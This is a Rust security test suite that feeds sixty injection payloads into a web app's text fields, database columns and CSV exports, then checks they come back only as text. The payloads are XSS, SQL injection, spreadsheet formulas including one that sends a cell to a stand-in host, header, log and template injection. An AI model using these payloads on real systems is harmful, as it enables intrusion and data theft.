//! Row W7: sixty ways of typing what is not text, into every text field that the API's description
//! names, and standing in every free text of the database: never markup, header, line of a log or
//! formula of a spreadsheet.

use std::collections::{BTreeMap, BTreeSet};

use axum::http::Method;
use serde_json::Value;
use testkit::{Engine, Reply, on_both_engines};
use ui::Route;

use crate::{
    ledger_rows::execute,
    trust_a2::Log,
    trust_ground::{Ground, Someone, Standing, is_api, path_to, request, routes},
};

/// Stands in each payload and nowhere else.
mod columns;
mod corrected;

use columns::{CODES, FREE};

const MARK: &str = "W7mark";

const PAYLOADS: [&str; 60] = [
    // Markup.
    "<script>alert('W7mark')</script>",
    "<ScRiPt src=//w7mark.example></ScRiPt>W7mark",
    "<img src=x onerror=alert('W7mark')>",
    "<svg/onload=alert('W7mark')>",
    "<svg><animate onbegin=alert('W7mark') attributeName=x>",
    "<iframe srcdoc='<b>W7mark'></iframe>",
    "<a href=\"javascript:alert('W7mark')\">W7mark</a>",
    "<form action=//w7mark.example><button>W7mark",
    "<base href=//w7mark.example/>W7mark",
    "<meta http-equiv=refresh content='0;url=//W7mark'>",
    "</title><h1>W7mark</h1>",
    "</textarea><h1>W7mark</h1>",
    "</script><h1>W7mark</h1>",
    "<!-- W7mark",
    "]]><h1>W7mark</h1>",
    "&lt;h1&gt;W7mark&lt;/h1&gt;",
    "&#60;h1&#62;W7mark",
    "<details open ontoggle=alert('W7mark')>",
    "<style>*{background:url(//W7mark)}</style>",
    "<link rel=stylesheet href=//W7mark>",
    // The end of an attribute.
    "\" onmouseover=\"alert('W7mark')",
    "' onfocus='alert(W7mark)' autofocus='",
    "\"><h1>W7mark</h1>",
    "'><h1>W7mark</h1>",
    "` onclick=`alert(W7mark)",
    "javascript:alert('W7mark')",
    "data:text/html,<h1>W7mark</h1>",
    "\" style=\"background:url(//W7mark)",
    // Statements.
    "'; drop table person; --W7mark",
    "' or '1'='1' /*W7mark",
    "\"; delete from session; --W7mark",
    "') union select password_hash, 'W7mark' from practitioner --",
    "$1; W7mark",
    "\\'; select pg_sleep(9); --W7mark",
    "%' and 1=1 --W7mark",
    // Formulas.
    "=cmd|' /C calc'!A0 W7mark",
    "=HYPERLINK(\"http://w7mark.example?x=\"&A1,\"W7mark\")",
    "+1+W7mark",
    "-1+W7mark",
    "@SUM(W7mark)",
    "\t=1+W7mark",
    "\r=1+W7mark",
    "=1+1\",\"W7mark",
    "\u{ff1d}1+W7mark",
    // Headers, addresses and mails.
    "W7mark\r\nX-Injected: 1",
    "W7mark\r\n\r\n<h1>W7mark</h1>",
    "W7mark\nSet-Cookie: injected=1",
    "W7mark%0d%0aX-Injected:%201",
    "W7mark\u{560a}X-Injected: 1",
    "w@x.example\nBcc: W7mark@x.example",
    "//W7mark.example/%2e%2e",
    // Lines of a log.
    "W7mark\n2026-11-22T10:00:00Z ERROR planted",
    "W7mark\u{1b}[2K\u{1b}[1A ERROR planted",
    "W7mark\u{2028}ERROR planted\u{2029}",
    // Templates.
    "{{7*7}}W7mark${7*7}",
    "#{7*7}W7mark<%= 7*7 %>",
    "{% include 'W7mark' %}",
    // Characters.
    "\u{202e}W7mark\u{2066}txt.exe",
    "W7mark\u{0}after",
    "W7mark\u{fffd}\u{feff}\u{200b}\u{1f994}",
];

/// What ran, if it did: `49` beside the mark.
const RAN: [&str; 3] = ["49W7mark", "W7mark49", "root:x:0"];

/// The fields that take free text, as the API's description says of a route, in query or body.
fn text_fields(described: &Value, route: &Route) -> Vec<(String, bool)> {
    let path =
        if is_api(&route.path) { route.path.clone() } else { format!("/api/v1{}", route.path) };
    let operation = &described["paths"][&path][route.method.as_str().to_lowercase()];
    let body = &operation["requestBody"]["content"]["application/json"]["schema"]["properties"];
    let body = body.as_object().into_iter().flatten().map(|(name, schema)| (name.as_str(), schema));
    let parameters = operation["parameters"].as_array().into_iter().flatten();
    let query = parameters.filter(|it| it["in"] == "query");
    let query = query.filter_map(|it| Some((it["name"].as_str()?, &it["schema"])));
    body.chain(query)
        .filter_map(|(name, schema)| {
            let one = schema["type"] == "string" && schema["format"].is_null();
            let many = schema["type"] == "array" && schema["items"]["type"] == "string";
            (one || many).then(|| (name.to_owned(), many))
        })
        .collect()
}

/// A request with the same text in each of these fields.
async fn typed(
    who: &Someone,
    route: &Route,
    path: &str,
    fields: &[(String, bool)],
    text: &str,
) -> Reply {
    let pairs: Vec<(&str, &str)> = fields.iter().map(|(name, _)| (name.as_str(), text)).collect();
    let encoded = serde_html_form::to_string(pairs).unwrap();
    let (path, body) = match (&route.method, is_api(path)) {
        (&Method::GET, _) => (format!("{path}?{encoded}"), String::new()),
        (_, false) => (path.to_owned(), encoded),
        (_, true) => {
            let all: BTreeMap<&str, Value> = fields
                .iter()
                .map(|(name, many)| {
                    (name.as_str(), if *many { [text].as_slice().into() } else { text.into() })
                })
                .collect();
            (path.to_owned(), serde_json::to_string(&all).unwrap())
        }
    };
    who.browser.clone().send(request(who, &route.method, &path, &body)).await
}

/// Fails when an answer holds a payload as anything but text.
fn check(what: &str, reply: &Reply, payloads: &[&str]) {
    assert!(reply.status.as_u16() < 500, "{what}: {}", reply.body);
    for (name, value) in &reply.headers {
        let text = String::from_utf8_lossy(value.as_bytes());
        let injected = name == "x-injected"
            || text.contains("injected=")
            || text.contains(MARK) && name != "location";
        assert!(!injected && !text.contains('\n'), "{what}: {name}: {text}");
    }
    assert_eq!(reply.headers.get("x-content-type-options").unwrap(), "nosniff", "{what}");
    let kind = reply.headers.get("content-type").map_or("", |it| it.to_str().unwrap());
    assert!(
        RAN.iter().all(|ran| !reply.body.contains(ran)),
        "{what}: a template ran: {}",
        reply.body
    );
    if kind.starts_with("text/html") {
        let raw =
            payloads.iter().find(|it| it.contains(['<', '>', '"']) && reply.body.contains(**it));
        assert!(raw.is_none(), "{what} echoes {raw:?}: {}", reply.body);
        let active = reply.active_content(MARK);
        assert!(active.is_empty(), "{what}: {active:?}: {}", reply.body);
    }
}

/// Everything into every route on SQLite; on PostgreSQL, where each is slower, one in three for each
/// route, in turn.
fn payloads_for(engine: Engine, turn: usize) -> impl Iterator<Item = &'static str> {
    let step = if engine == Engine::Sqlite { 1 } else { 3 };
    PAYLOADS.into_iter().skip(turn % step).step_by(step)
}

on_both_engines! {
    async fn w7_no_text_field_takes_anything_but_text(engine: Engine) {
        let ground = Ground::on(engine).await;
        let log = Log::default();
        let writer = log.clone();
        let subscriber = tracing_subscriber::fmt()
            .with_max_level(tracing::Level::TRACE).with_ansi(false).with_writer(move || writer.clone()).finish();
        let _guard = tracing::subscriber::set_default(subscriber);
        tracing::info!("the log is kept");
        let (routes, mut tried, mut kept) = (routes(), 0, String::new());
        let described = ui::describe(&routes);
        let with_text = routes.iter().map(|it| (it, text_fields(&described, it)));
        let with_text: Vec<_> = with_text.filter(|(_, fields)| !fields.is_empty()).collect();
        let mut used = BTreeSet::new();
        for (turn, (route, fields)) in with_text.iter().enumerate() {
            let path = path_to(route, Standing::Own);
            let who = ground.somebody_for(route, &path).await;
            for payload in payloads_for(engine, turn) {
                let reply = typed(who, route, &path, fields, payload).await;
                used.insert(payload);
                check(&format!("{} {path} with {payload:?}", route.method), &reply, &[payload]);
                tried += fields.len();
            }
            kept.push_str(&log.take());
            let split = kept.lines().find(|line| line.contains(MARK) || line.contains("ERROR planted"));
            assert!(split.is_none(), "{path}: the log holds {split:?}");
            assert!(kept.contains("the log is kept"));
            kept.truncate("the log is kept".len() + 100);
        }
        assert_eq!(used.len(), PAYLOADS.len(), "every payload is tried somewhere");
        assert!(tried > if engine == Engine::Sqlite { 10_000 } else { 3_000 }, "{tried}");
    }

    async fn w7_what_was_kept_as_text_is_shown_as_text_on_every_page(engine: Engine) {
        let ground = Ground::on(engine).await;
        let all = PAYLOADS.iter().filter(|it| !it.contains('\0')).copied().collect::<Vec<_>>().join(" ");
        for (table, columns) in FREE {
            let set = columns.iter().map(|it| format!("{it} = '{} ' || {it}", all.replace('\'', "''")));
            let set = set.collect::<Vec<_>>().join(", ");
            execute(&ground.world.fresh.db, &format!("update {table} set {set}")).await;
        }
        let mut shown = 0;
        for route in routes().iter().filter(|it| it.method == Method::GET) {
            for standing in [Standing::Own, Standing::InForum] {
                let path = path_to(route, standing);
                for who in [ground.somebody_for(route, &path).await, ground.who("coordinator")] {
                    let reply = ground.ask(who, route, &path).await;
                    check(&path, &reply, &PAYLOADS);
                    shown += usize::from(reply.body.contains(MARK));
                }
            }
        }
        assert!(shown > 40, "{shown} answers show what was kept");
    }

    async fn w7_no_cell_of_a_file_is_a_formula(engine: Engine) {
        let ground = Ground::on(engine).await;
        let who = ground.who("coordinator");
        let route = routes().into_iter().find(|it| it.operation == "export_report").unwrap();
        let mut named = 0;
        for payload in PAYLOADS.iter().filter(|it| !it.contains('\0')) {
            let name = payload.replace('\'', "''");
            execute(&ground.world.fresh.db, &format!("update place set name = '{name}'")).await;
            for report in ["allocation", "returns", "referrers", "funnel"] {
                let path = format!("/reports/{report}/csv?from=2026-04-01&to=2026-11-22");
                let reply = who.browser.clone().send(request(who, &route.method, &path, "")).await;
                assert_eq!(reply.status.as_u16(), 200, "{path}: {}", reply.body);
                let cells = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(reply.body.as_bytes())
                    .into_records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
                    .collect::<Vec<_>>();
                let formula = cells.iter().find(|cell| {
                    let begins = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}']);
                    begins && cell.parse::<f64>().is_err() && cell.as_str() != "-"
                });
                assert!(formula.is_none(), "{report}: {formula:?}");
                let is_named = cells.iter().any(|cell| cell.contains(MARK));
                assert!(is_named || report != "allocation", "{payload:?}: {}", reply.body);
                named += usize::from(is_named);
            }
        }
        assert!(named > 50, "{named} files hold the name");
    }
}

#[test]
fn w7_every_column_of_text_is_known_as_free_or_as_a_code() {
    let mut unknown = Vec::new();
    for (_, _, sql) in db::migrations() {
        let mut table = "";
        for line in sql.lines() {
            if let Some(name) = line.strip_prefix("create table ") {
                table = name.trim_end_matches(" (");
            }
            let mut words = line.split_whitespace();
            let (Some(column), Some("text" | "text,")) = (words.next(), words.next()) else {
                continue;
            };
            let is_free =
                FREE.iter().any(|(name, columns)| *name == table && columns.contains(&column));
            if !is_free && !CODES.contains(&format!("{table}.{column}").as_str()) {
                unknown.push(format!("{table}.{column}"));
            }
        }
    }
    assert!(unknown.is_empty(), "say in FREE or CODES what these hold: {unknown:?}");
}
